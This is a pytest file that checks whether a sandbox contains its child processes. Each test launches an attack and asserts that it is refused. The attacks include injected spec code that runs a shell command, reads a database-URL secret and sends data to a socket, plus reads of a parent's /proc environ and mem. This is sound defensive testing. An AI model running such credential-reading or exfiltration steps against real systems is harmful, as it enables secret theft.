"""Containment of sandboxed children: each protection meets an attack from inside a real child, and the attack fails.

Each attack runs in a child started as a new process and in one forked by a fork server
(tests/sandbox_handlers.py: Attacks). Where this machine cannot give a protection (no Landlock,
not root), the tests of that protection skip and say why, as the child itself does.
"""

from __future__ import annotations

import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from test_sandbox import ENV

from kernelevo.isolation import containment
from kernelevo.isolation.containment import Report, child_environment, is_secret
from kernelevo.isolation.probe import probe
from kernelevo.isolation.sandbox import Sandbox
from kernelevo.isolation.zygote import ForkedSandbox, ForkServer, ZygoteSetup

DATABASE_URL = "postgresql+psycopg://kernelevo:hunter2@db.example/kernelevo"
SECRETS = {"KERNELEVO_DATABASE_URL": DATABASE_URL, "OPENAI_API_KEY": "sk-not-for-children",
           "ANTHROPIC_API_KEY": "sk-ant-not-for-children"}


@pytest.fixture(scope="module")
def here() -> Report:
    """What a sandboxed child gets on this machine."""
    return probe()


def needs(report: Report, *names: str) -> None:
    for name in names:
        protection = report.get(name)
        if not protection.on:
            pytest.skip(f"this machine gives children no {name} protection: {protection.how}")


@pytest.fixture
def secret_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)


@pytest.fixture
def world_writable() -> Iterator[Path]:
    """A folder anyone may write (as /tmp is): only Landlock keeps a child out of it."""
    folder = Path(tempfile.mkdtemp(prefix="kernelevo-attack-"))
    folder.chmod(0o1777)
    yield folder
    for entry in folder.iterdir():
        entry.unlink()
    folder.rmdir()


@pytest.fixture
def tcp_server() -> Iterator[socket.socket]:
    """A TCP server on 127.0.0.1 that a child must not reach (accept() does not block)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    yield server
    server.close()


def _nothing_accepted(server: socket.socket) -> bool:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return True
    connection.close()
    return False


@pytest.fixture(params=["started", "forked"])
def spawn(request: pytest.FixtureRequest, scratch_dir: Path,
          secret_environment: None) -> Iterator[Callable[[], Sandbox]]:
    """Makes attacking children, started as new processes or forked by a fork server, with secrets in
    this process's environment (and one passed explicitly)."""
    env = {**ENV, "EXPLICIT_TOKEN": "not-for-children"}
    boxes: list[Sandbox] = []
    servers: list[ForkServer] = []

    def make() -> Sandbox:
        if request.param == "forked":
            if not servers:
                zygote = Sandbox("kernelevo.isolation.zygote:Zygote", ZygoteSetup("sandbox_handlers:Attacks", None),
                                 env=env, name="zygote")
                zygote.start()
                servers.append(ForkServer(zygote))
            box: Sandbox = ForkedSandbox(servers[0], name="attacker", scratch_root=str(scratch_dir))
        else:
            box = Sandbox("sandbox_handlers:Attacks", None, env=env, name="attacker", scratch_root=str(scratch_dir))
        box.start()
        box.wait_ready(60)
        boxes.append(box)
        return box

    yield make
    for box in boxes:
        box.kill()
    for server in servers:
        server.kill()


def attack(box: Sandbox, kind: str, arg: object = None) -> object:
    return box.call((kind, arg), {"*": 60})


def refused(outcome: object) -> bool:
    return isinstance(outcome, str) and outcome.startswith(("PermissionError", "OSError", "ConnectionRefused"))


# -- the attacks ---------------------------------------------------------------------------------

def test_no_secret_reaches_a_child(spawn: Callable[[], Sandbox]) -> None:
    box = spawn()
    seen = attack(box, "environment", [*SECRETS, "EXPLICIT_TOKEN", "PATH", "HOME"])
    assert isinstance(seen, dict)
    assert {name: seen[name] for name in [*SECRETS, "EXPLICIT_TOKEN"]} == dict.fromkeys([*SECRETS, "EXPLICIT_TOKEN"])
    assert seen["PATH"] == os.environ["PATH"]  # what it needs is kept
    assert seen["HOME"] == box.scratch  # and its home is its own folder
    assert box.protections is not None and box.protections.get("environment").on


def test_a_child_reads_no_secret_from_its_parents_memory(spawn: Callable[[], Sandbox], here: Report) -> None:
    if os.geteuid() != 0 and not here.get("filesystem").on:
        pytest.skip("a child of the same user, without Landlock, may read its parent's /proc files")
    box = spawn()
    for what in ("environ", "mem"):
        outcome = attack(box, "read", f"/proc/{os.getpid()}/{what}")
        assert refused(outcome), f"a child read its parent's {what}: {outcome}"


def test_a_child_opens_no_network_socket(spawn: Callable[[], Sandbox], here: Report,
                                         tcp_server: socket.socket) -> None:
    needs(here, "network")
    box = spawn()
    outcome = attack(box, "connect", tcp_server.getsockname())
    assert not str(outcome).startswith("done"), outcome
    assert _nothing_accepted(tcp_server)
    assert attack(box, "unix_socket") == "done: b'ping'"  # Unix sockets (torch's shared memory) still work


def test_a_child_writes_only_in_its_scratch_folder(spawn: Callable[[], Sandbox], here: Report,
                                                   world_writable: Path) -> None:
    needs(here, "filesystem")
    box = spawn()
    where = attack(box, "where")
    assert isinstance(where, dict) and where["cwd"] == box.scratch and where["tmp"].startswith(box.scratch)
    assert attack(box, "write", os.path.join(box.scratch, "mine")) == "done"
    assert attack(box, "write", os.path.join(where["tmp"], "mine")) == "done"
    for outside in (world_writable / "planted", Path(tempfile.gettempdir()) / f"kernelevo-planted-{os.getpid()}",
                    Path("/dev/shm").parent / "planted"):
        outcome = attack(box, "write", str(outside))
        assert refused(outcome), f"a child wrote {outside}: {outcome}"
        assert not outside.exists()


def test_a_child_cannot_write_another_childs_folder(spawn: Callable[[], Sandbox], here: Report) -> None:
    needs(here, "filesystem")
    first, second = spawn(), spawn()
    outcome = attack(first, "write", os.path.join(second.scratch, "planted"))
    assert refused(outcome), outcome
    assert not Path(second.scratch, "planted").exists()


def test_a_child_cannot_change_its_user(spawn: Callable[[], Sandbox]) -> None:
    box = spawn()
    outcome = attack(box, "setuid")
    assert refused(outcome), outcome  # as the sandbox user to root; as uid 0 without capabilities to anyone


def test_a_child_of_another_user_cannot_read_its_parents_files(spawn: Callable[[], Sandbox], here: Report,
                                                              scratch_dir: Path) -> None:
    needs(here, "user")
    private = scratch_dir / "private"
    private.write_text("the parent's alone")
    private.chmod(0o600)
    assert refused(attack(spawn(), "read", str(private)))
    if Path("/root").is_dir() and not stat.S_IMODE(Path("/root").stat().st_mode) & 0o005:
        assert refused(attack(spawn(), "read", "/root"))


def test_a_candidate_writes_only_its_own_folders(here: Report, scratch_dir: Path) -> None:
    """Once a candidate's code runs, the folders its child shared (the caches of other candidates, the
    runtime cache) are closed to it: only its scratch folder and its own Triton cache stay open."""
    needs(here, "filesystem")
    shared = scratch_dir / "shared"
    caches = scratch_dir / "caches"
    mine, other = caches / "candidate-1", caches / "candidate-2"
    for folder in (shared, caches, mine, other):
        folder.mkdir()
        containment.give_to_sandbox(folder)
    source = textwrap.dedent(f"""
        import os
        ATTACKS = {{}}
        for name, path in [("shared", {str(shared)!r}), ("other", {str(other)!r}), ("mine", {str(mine)!r}),
                           ("scratch", os.getcwd())]:
            try:
                with open(os.path.join(path, "planted"), "w") as f:
                    f.write("x")
                ATTACKS[name] = "written"
            except OSError as exc:
                ATTACKS[name] = type(exc).__name__
    """)
    box = Sandbox("sandbox_handlers:Attacks", None, env=ENV, name="candidate", scratch_root=str(scratch_dir),
                  writable=(str(shared), str(caches)))
    with box:
        assert attack(box, "write", str(other / "before")) == "done"  # before the candidate, the child may
        outcome = attack(box, "candidate", (source, str(mine)))
    assert outcome == {"shared": "PermissionError", "other": "PermissionError", "mine": "written",
                       "scratch": "written"}


def test_a_spec_that_attacks_at_import_is_still_checked(here: Report, examples_dir: Path, world_writable: Path,
                                                        tcp_server: socket.socket, secret_environment: None) -> None:
    """The finding of issue 36: a spec that runs a shell command at import, through the real spec check."""
    needs(here, "filesystem", "network")
    from kernelevo.spec.probe import check_spec
    from kernelevo.spec.spec import read_spec

    host, port = tcp_server.getsockname()
    attack_code = textwrap.dedent(f"""

        import os as _os
        import socket as _socket

        _os.system("touch {world_writable}/shell-marker 2>/dev/null")
        try:
            with open("{world_writable}/python-marker", "w") as _f:
                _f.write(_os.environ.get("KERNELEVO_DATABASE_URL", "no database URL here"))
        except OSError:
            pass
        try:
            _socket.create_connection(("{host}", {port}), timeout=5).sendall(b"the spec was here")
        except OSError:
            pass
    """)
    spec = read_spec((examples_dir / "gelu" / "spec.py").read_text() + attack_code, name="attacking-gelu")
    report = check_spec(spec, device="cpu")
    assert report.name == "attacking-gelu" and report.variants  # checked as any spec is
    assert list(world_writable.iterdir()) == []
    assert _nothing_accepted(tcp_server)


# -- what is reported ----------------------------------------------------------------------------

def test_a_child_says_what_it_has(here: Report) -> None:
    assert [p.name for p in here.protections] == list(containment.PROTECTIONS)
    for name in ("environment", "no_new_privs", "limits"):
        assert here.get(name).on, here.get(name)
    if here.get("seccomp").on:
        assert here.get("network").on  # seccomp alone refuses every network socket
    if os.geteuid() != 0:
        assert not here.get("user").on and "only root" in here.get("user").how


def test_a_missing_protection_is_said_once(monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
                                           scratch_dir: Path) -> None:
    monkeypatch.setenv(containment.parent.SANDBOX_USER_ENV, "no-such-kernelevo-user")
    monkeypatch.setattr(containment.parent, "_NOTED", set())
    with caplog.at_level(logging.WARNING, logger="kernelevo.isolation.containment"):
        for _ in range(2):
            with Sandbox("sandbox_handlers:Echo", None, env=ENV, scratch_root=str(scratch_dir)) as box:
                box.wait_ready(60)
                assert box.protections is not None and not box.protections.get("user").on
    said = [r.getMessage() for r in caplog.records if "unprivileged user" in r.getMessage()]
    assert len(said) == 1, said
    if os.geteuid() == 0:
        assert "no-such-kernelevo-user" in said[0]


def test_serve_refuses_to_start_without_every_protection(tmp_path: Path) -> None:
    env = {**os.environ, containment.parent.SANDBOX_USER_ENV: "no-such-kernelevo-user",
           "KERNELEVO_DATA_DIR": str(tmp_path)}
    done = subprocess.run([sys.executable, "-m", "kernelevo.cli", "serve", "--db", str(tmp_path / "k.db"), "--port",
                           "1"], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "user:" in lines[0] and "--unsafe-local" in lines[0], done.stderr
    assert not (tmp_path / "k.db").exists()  # refused before anything was opened


# -- the environment's allow-list ----------------------------------------------------------------

def test_the_environment_keeps_what_children_need_and_no_secret() -> None:
    parent = {"PATH": "/usr/bin", "LANG": "C.UTF-8", "LC_ALL": "C", "CUDA_VISIBLE_DEVICES": "1",
              "TRITON_PTXAS_PATH": "/opt/ptxas", "LD_LIBRARY_PATH": "/opt/cuda/lib64", "PYTHONPATH": "/src",
              "HOME": "/root", "TMPDIR": "/var/tmp", "TRITON_CACHE_DIR": "/root/.triton",
              "KERNELEVO_DATABASE_URL": DATABASE_URL, "OPENAI_API_KEY": "sk", "GITHUB_TOKEN": "ghp", "AWS_SECRET": "s",
              "PGPASSWORD": "p", "SSH_AUTH_SOCK": "/tmp/agent", "RAY_ADDRESS": "10.0.0.1:6379",
              "SOME_URL": "https://user:pass@example.com/x", "KERNELEVO_API_PORT": "8321"}
    env = child_environment({"TRITON_INTERPRET": "1", "KERNELEVO_CACHE_DIR": "/cache", "HF_TOKEN": "hf"},
                            inherit=True, parent=parent)
    assert env == {"PATH": "/usr/bin", "LANG": "C.UTF-8", "LC_ALL": "C", "CUDA_VISIBLE_DEVICES": "1",
                   "TRITON_PTXAS_PATH": "/opt/ptxas", "LD_LIBRARY_PATH": "/opt/cuda/lib64", "PYTHONPATH": "/src",
                   "TRITON_INTERPRET": "1", "KERNELEVO_CACHE_DIR": "/cache"}
    assert child_environment({"PATH": "/bin"}, inherit=False, parent=parent) == {"PATH": "/bin"}
    assert is_secret("X", "postgresql://u:p@h/db") and not is_secret("X", "postgresql://h/db")
